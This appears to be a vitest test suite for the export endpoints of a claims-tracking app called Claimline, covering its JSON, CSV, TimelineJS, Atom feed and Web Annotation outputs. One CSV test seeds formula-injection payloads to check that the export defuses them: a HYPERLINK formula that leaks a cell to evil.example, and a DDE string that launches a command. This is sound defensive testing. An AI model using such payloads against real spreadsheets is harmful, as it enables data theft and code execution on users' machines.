import { parse } from 'csv-parse/sync';
import { formToken } from '../helpers/forms.js';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import request from 'supertest';
import { describe, expect, it } from 'vitest';
import { validateAtom } from '../../src/domain/formats/atom.js';
import { claimsFromCsvRows } from '../../src/domain/formats/csv.js';
import { parseCsv } from '../../src/domain/formats/csv-table.js';
import { parseExport } from '../../src/domain/formats/export-json.js';
import { validateTimelineJs } from '../../src/domain/formats/timelinejs.js';
import type { Database } from '../../src/domain/types.js';
import { loadSeedDatabase } from '../../src/app/seed-files.js';
import { TEST_NOW, emptyDatabase, makeApp } from '../helpers/app.js';

/** The shipped story with every claim copied five times over: more claims than one timeline page holds. */
function bigStory(): Database {
  const db = loadSeedDatabase(TEST_NOW.toISOString());
  const copies = [1, 2, 3, 4].flatMap((n) =>
    db.claims.map((claim) => ({ ...claim, id: `${claim.id}-${n}`, supersedes: claim.supersedes.map((id) => `${id}-${n}`) })),
  );
  return { ...db, claims: [...db.claims, ...copies] };
}

describe('GET /export.json', () => {
  it('when nothing is filtered, then the download is the whole database as a versioned Claimline file', async () => {
    const { app, store } = await makeApp();
    const res = await request(app).get('/export.json').expect(200);
    expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename=claimline-export.json');
    const parsed = parseExport(res.text);
    if (!parsed.ok) throw new Error(JSON.stringify(parsed.errors));
    expect(parsed.value).toMatchObject({ format: 'claimline', formatVersion: 3, exportedAt: TEST_NOW.toISOString() });
    const { sources, documents, claims, revisions } = (await store.dump());
    expect({ sources: parsed.value.sources, documents: parsed.value.documents, claims: parsed.value.claims, revisions: parsed.value.revisions }).toEqual(
      { sources, documents, claims, revisions },
    );
  });

  it('when the timeline is filtered, then every matching claim is exported, not one page of them', async () => {
    const { app } = await makeApp({ seed: bigStory });
    const all = parseExport((await request(app).get('/export.json?limit=5&page=2').expect(200)).text);
    expect(all.ok && all.value.claims).toHaveLength(65);
    const deepseek = parseExport((await request(app).get('/export.json?actor=deepseek').expect(200)).text);
    if (!deepseek.ok) throw new Error('export did not parse');
    expect(deepseek.value.claims).toHaveLength(10);
    expect(deepseek.value.claims.every((claim) => claim.actors.includes('DeepSeek'))).toBe(true);
  });

  it('when a filter cannot be read, then the answer is 400 naming it', async () => {
    const { app } = await makeApp();
    const res = await request(app).get('/export.json?order=sideways').expect(400);
    expect(res.body.errors[0]).toMatchObject({ field: 'order' });
  });
});

describe('GET /export.csv', () => {
  it('when downloaded, then it is UTF-8 CSV, one row per claim and attribution, that Claimline reads back without a problem', async () => {
    const { app, store } = await makeApp();
    const res = await request(app).get('/stories/apple-alibaba/export.csv?topic=ai-features').expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename=apple-alibaba.csv');
    const read = claimsFromCsvRows(parseCsv(res.text), { today: '2025-03-01' });
    expect(read.errors).toEqual([]);
    const expected = (await store.dump()).claims.filter((claim) => claim.topics.some((topic) => /ai features/i.test(topic)));
    expect(read.claims.map((claim) => claim.id).sort()).toEqual(expected.map((claim) => claim.id).sort());
    expect(parseCsv(res.text).length - 1).toBe(expected.reduce((rows, claim) => rows + Math.max(1, claim.attributions.length), 0));
  });

  it('when opened in a spreadsheet, then a UTF-8 byte order mark comes first, so a default import shows “–” and “ü” as written', async () => {
    const { app } = await makeApp();
    const res = await request(app).get('/stories/apple-alibaba/export.csv').buffer(true).parse((response, done) => {
      const chunks: Buffer[] = [];
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.on('end', () => done(null, Buffer.concat(chunks)));
    });
    const bytes = res.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toMatch(/^claim_id,statement,/);
    expect(bytes.toString('utf8')).toContain('2024 – 11 February 2025');
  });

  it('when a cell would run as a formula, then the download holds it inert behind an apostrophe, and an import reads back the text as typed', async () => {
    const statement = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the source")';
    const seeded = await makeApp({
      seed: () => {
        const db = loadSeedDatabase(TEST_NOW.toISOString());
        return { ...db, claims: db.claims.map((claim, index) => (index === 0 ? { ...claim, statement, actors: ["=cmd|' /C calc'!A0", ...claim.actors] } : claim)) };
      },
    });
    const csv = (await request(seeded.app).get('/stories/apple-alibaba/export.csv').expect(200)).text;
    const cells = parse(csv, { bom: true, relax_column_count: true }).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(cells).toContain(`'${statement}`);
    const target = await makeApp({ seed: emptyDatabase });
    await request(target.app).post('/import').field('_token', await formToken(target.app, '/import')).attach('file', Buffer.from(csv), 'story.csv').expect(200);
    const firstId = (await seeded.store.dump()).claims[0]?.id;
    const imported = (await target.store.dump()).claims.find((claim) => claim.id === firstId);
    expect(imported?.statement).toBe(statement);
    expect(imported?.actors[0]).toBe("=cmd|' /C calc'!A0");
  });

  it('when a filter cannot be read, then the answer is a plain-text 400', async () => {
    const { app } = await makeApp();
    const res = await request(app).get('/stories/apple-alibaba/export.csv?from=2024-13').expect(400);
    expect(res.headers['content-type']).toMatch(/^text\/plain/);
    expect(res.text).toMatch(/^from: /);
  });
});

describe('GET /export/timelinejs.json', () => {
  it('when downloaded, then it passes TimelineJS’s documented schema with one event per matching claim', async () => {
    const { app } = await makeApp({ seed: bigStory });
    const res = await request(app).get('/stories/apple-alibaba/export/timelinejs.json').expect(200);
    expect(validateTimelineJs(res.body)).toEqual([]);
    expect(res.body.events).toHaveLength(65);
    expect(res.headers['access-control-allow-origin']).toBe('*');
    const filtered = await request(app).get('/stories/apple-alibaba/export/timelinejs.json?actor=huawei').expect(200);
    expect(filtered.body.title.text.headline).toBe('Claimline: Apple taps Alibaba to bring AI to Chinese iPhones: actor huawei');
    expect(filtered.body.events.every((event: { unique_id: string }) => /huawei|fell-out/.test(event.unique_id))).toBe(true);
  });
});

describe('GET /feed.atom', () => {
  it('when subscribed to, then it is a valid Atom feed with one entry per claim and a self link to the very URL asked for', async () => {
    const { app, store } = await makeApp({ publicUrl: 'http://news.example:8080' });
    const res = await request(app).get('/stories/apple-alibaba/feed.atom').expect(200);
    expect(res.headers['content-type']).toBe('application/atom+xml; charset=utf-8');
    expect(validateAtom(res.text)).toEqual([]);
    expect(XMLValidator.validate(res.text)).toBe(true);
    const feed = new XMLParser({ ignoreAttributes: false }).parse(res.text) as { feed: { '@_xmlns': string; entry: unknown[] } };
    expect(feed.feed['@_xmlns']).toBe('http://www.w3.org/2005/Atom');
    expect(res.text.match(/<entry>/g)).toHaveLength((await store.dump()).claims.length);
    const filtered = await request(app).get('/stories/apple-alibaba/feed.atom?actor=deepseek&order=desc').expect(200);
    expect(validateAtom(filtered.text)).toEqual([]);
    expect(filtered.text).toContain('<link rel="self" href="http://news.example:8080/stories/apple-alibaba/feed.atom?actor=deepseek&amp;order=desc"/>');
    expect(filtered.text.match(/<entry>/g)).toHaveLength(2);
    expect(filtered.text).toContain('<id>http://news.example:8080/claims/apple-passed-on-deepseek</id>');
  });
});

describe('GET /feed.atom, paged and cached', () => {
  /** The shipped story with 150 more claims, changed a minute apart. */
  function longStory(): Database {
    const db = loadSeedDatabase(TEST_NOW.toISOString());
    const base = db.claims[0] as Database['claims'][number];
    const more = Array.from({ length: 150 }, (_, n) => ({
      ...base,
      id: `more-${n}`,
      supersedes: [],
      updatedAt: new Date(Date.UTC(2025, 1, 20, 0, n)).toISOString(),
    }));
    return { ...db, claims: [...db.claims, ...more] };
  }

  it('when a filter matches nothing, then the feed is dated by the last change of the data, not 1970', async () => {
    const { app, store } = await makeApp();
    const res = await request(app).get('/stories/apple-alibaba/feed.atom?q=no-such-words-anywhere').expect(200);
    expect(validateAtom(res.text)).toEqual([]);
    const newest = (await store.dump()).claims.map((claim) => claim.updatedAt).sort().at(-1);
    expect(res.text).toContain(`<updated>${new Date(newest ?? '').toISOString()}</updated>`);
    expect(res.text).not.toContain('1970-01-01');
  });

  it('when more than 100 claims match, then the feed holds the newest 100 and links the older ones page by page', async () => {
    const { app, store } = await makeApp({ seed: longStory });
    const first = await request(app).get('/stories/apple-alibaba/feed.atom?order=desc').expect(200);
    expect(first.text.match(/<entry>/g)).toHaveLength(100);
    expect(first.text).toMatch(/<link rel="next" href="[^"]+\/feed.atom\?order=desc&amp;page=2"\/>/);
    expect(first.text).toMatch(/<link rel="last" href="[^"]+\/feed.atom\?order=desc&amp;page=2"\/>/);
    const second = await request(app).get('/stories/apple-alibaba/feed.atom?order=desc&page=2').expect(200);
    expect(validateAtom(second.text)).toEqual([]);
    expect(second.text.match(/<entry>/g)).toHaveLength((await store.dump()).claims.length - 100);
    expect(second.text).toMatch(/<link rel="previous" href="[^"]+\/feed.atom\?order=desc"\/>/);
    expect(second.text).not.toContain('rel="next"');
    const text = await request(app).get('/stories/apple-alibaba/feed.atom?order=desc&page=3').expect(404);
    expect(text.text).toBe('page: this feed has 2 pages');
  });

  it('when the feed is asked for again, then it comes from the cache with its ETag until the next write shows the change', async () => {
    const { app } = await makeApp();
    const first = await request(app).get('/stories/apple-alibaba/feed.atom').expect(200);
    const etag = first.headers.etag ?? '';
    expect(etag).toBeTruthy();
    await request(app).get('/stories/apple-alibaba/feed.atom').set('If-None-Match', etag).expect(304);
    await request(app).post('/api/claims').send({ statement: 'A claim written after the feed was cached.', date: '2024-Q3', source: 'Reuters' }).expect(201);
    const after = await request(app).get('/stories/apple-alibaba/feed.atom').expect(200);
    expect(after.headers.etag).not.toBe(etag);
    expect(after.text).toContain('A claim written after the feed was cached.');
  });
});

describe('GET /api/claims/:id/annotations', () => {
  it('when the claim quotes a stored document, then its quotes come as a Web Annotation collection', async () => {
    const { app } = await makeApp();
    const res = await request(app).get('/api/claims/apple-chose-alibaba/annotations').expect(200);
    expect(res.headers['content-type']).toBe('application/ld+json; profile="http://www.w3.org/ns/anno.jsonld"; charset=utf-8');
    const collection = JSON.parse(res.text);
    expect(collection).toMatchObject({ '@context': 'http://www.w3.org/ns/anno.jsonld', type: 'AnnotationCollection' });
    expect(collection.total).toBeGreaterThan(0);
    expect(collection.first.items[0].target.selector).toContainEqual(expect.objectContaining({ type: 'TextQuoteSelector' }));
  });

  it('when the claim does not exist, then the answer is a JSON 404', async () => {
    const { app } = await makeApp();
    const res = await request(app).get('/api/claims/nope/annotations').expect(404);
    expect(res.body.error).toContain('no claim');
  });

  it('when every annotation of the story is checked against the model’s musts, then none fails', async () => {
    /** https://www.w3.org/TR/annotation-vocab/#named-individuals */
    const MOTIVATIONS = ['assessing', 'bookmarking', 'classifying', 'commenting', 'describing', 'editing', 'highlighting', 'identifying', 'linking', 'moderating', 'questioning', 'replying', 'tagging'];
    const { app, store } = await makeApp();
    const problems: string[] = [];
    let checked = 0;
    for (const claim of (await store.dump()).claims) {
      const collection = JSON.parse((await request(app).get(`/api/claims/${claim.id}/annotations`).expect(200)).text);
      for (const annotation of collection.first?.items ?? []) {
        checked += 1;
        if (!MOTIVATIONS.includes(annotation.motivation)) problems.push(`${annotation.id}: motivation ${annotation.motivation}`);
        for (const body of annotation.body) {
          // A body with a purpose is a TextualBody (with a value) or a SpecificResource (with a source): model §3.3.5.
          const fine = (body.type === 'TextualBody' && typeof body.value === 'string') || (body.type === 'SpecificResource' && body.source);
          if (body.purpose && !fine) problems.push(`${annotation.id}: a ${body.type} body with purpose ${body.purpose}`);
          if (body.purpose && !MOTIVATIONS.includes(body.purpose)) problems.push(`${annotation.id}: purpose ${body.purpose}`);
        }
        const text = (await store.dump()).documents.find((document) => document.url === annotation.target.source)?.text ?? '';
        for (const selector of [annotation.target.selector].flat()) {
          if (selector.type !== 'TextPositionSelector') continue;
          const exact = [annotation.target.selector].flat().find((other: { type: string }) => other.type === 'TextQuoteSelector')?.exact;
          if ([...text].slice(selector.start, selector.end).join('') !== exact) problems.push(`${annotation.id}: positions do not select the quote`);
        }
      }
    }
    expect(checked).toBeGreaterThan(20);
    expect(problems).toEqual([]);
  });

  it('when the id the collection gives as first is followed, then it is an AnnotationPage part of that collection', async () => {
    const { app } = await makeApp({ publicUrl: 'https://claims.example' });
    const host = 'claims.example';
    const collection = JSON.parse((await request(app).get('/api/claims/apple-chose-alibaba/annotations').set('Host', host).expect(200)).text);
    const pageUrl = new URL(collection.first.id);
    expect(pageUrl.origin).toBe('https://claims.example');
    const res = await request(app).get(`${pageUrl.pathname}${pageUrl.search}`).set('Host', host).expect(200);
    expect(res.headers['content-type']).toMatch(/^application\/ld\+json; profile="http:\/\/www.w3.org\/ns\/anno.jsonld"/);
    const page = JSON.parse(res.text);
    expect(page).toMatchObject({ type: 'AnnotationPage', id: collection.first.id, partOf: { id: collection.id, total: collection.total } });
    expect(page.items).toEqual(collection.first.items);
    await request(app).get('/api/claims/apple-chose-alibaba/annotations?page=1').expect(404);
  });
});
